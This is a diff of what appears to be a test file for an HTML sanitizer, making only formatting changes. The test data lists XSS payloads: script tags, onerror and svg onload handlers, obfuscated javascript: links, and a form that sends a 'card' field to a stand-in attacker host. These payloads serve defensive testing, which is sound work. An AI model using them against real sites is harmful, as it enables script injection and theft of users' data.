@@ -12,7 +12,7 @@ EVIL = "https://evil.example"
 # (name, HTML) — each construct the issue names, plus the usual relatives.
 CONSTRUCTS = [
     ("script", '<script>document.title = "xss-script"</script>'),
-    ("onerror", "<p><img src=\"/none.png\" onerror=\"alert('xss-onerror')\"> xss-img-text</p>"),
+    ("onerror", '<p><img src="/none.png" onerror="alert(\'xss-onerror\')"> xss-img-text</p>'),
     ("javascript link", "<p><a href=\"javascript:alert('xss-js')\">js link</a></p>"),
     ("entity-encoded javascript", '<p><a href="&#106;avascript:alert(1)">entity link</a></p>'),
     ("tab in javascript", '<p><a href="jav&#x09;ascript:alert(1)">tab link</a></p>'),
@@ -31,7 +31,7 @@ CONSTRUCTS = [
         "form",
         f'<form action="{EVIL}/steal"><input name="card"><button>xss-button</button></form>',
     ),
-    ("svg onload", "<svg onload=\"alert('xss-svg')\"><circle r=\"5\"></circle></svg>"),
+    ("svg onload", '<svg onload="alert(\'xss-svg\')"><circle r="5"></circle></svg>'),
     (
         "event handler and style attribute",
         '<p onclick="alert(1)" style="position:fixed;inset:0;background:red">styled paragraph</p>',
@@ -80,7 +80,9 @@ def problems(fragment) -> list[str]:
         cleaned = "".join(ch for ch in href if ch > " ").lower()
         if urlsplit(cleaned).scheme not in SAFE_SCHEMES:
             found.append(f"a[href={href!r}]")
-    found += ["<!-- comment -->" for _ in fragment.find_all(string=lambda s: isinstance(s, Comment))]
+    found += [
+        "<!-- comment -->" for _ in fragment.find_all(string=lambda s: isinstance(s, Comment))
+    ]
     text = fragment.get_text(" ")
     found += [f"text {t!r}" for t in NEVER_IN_TEXT if t in text]
     return found
